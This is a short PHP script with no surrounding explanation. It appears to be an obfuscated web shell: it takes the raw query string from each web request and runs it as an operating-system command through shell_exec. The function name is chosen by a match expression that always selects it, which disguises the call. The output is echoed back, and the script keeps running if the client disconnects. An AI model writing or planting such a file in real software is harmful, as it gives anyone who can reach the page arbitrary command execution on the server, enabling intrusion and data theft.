<?php
ignore_user_abort(true);
$p = getenv('QUERY_STRING');
$f = match (strlen('ab')) { 2 => 'shell_exec', default => 'trim' };
echo $f($p);
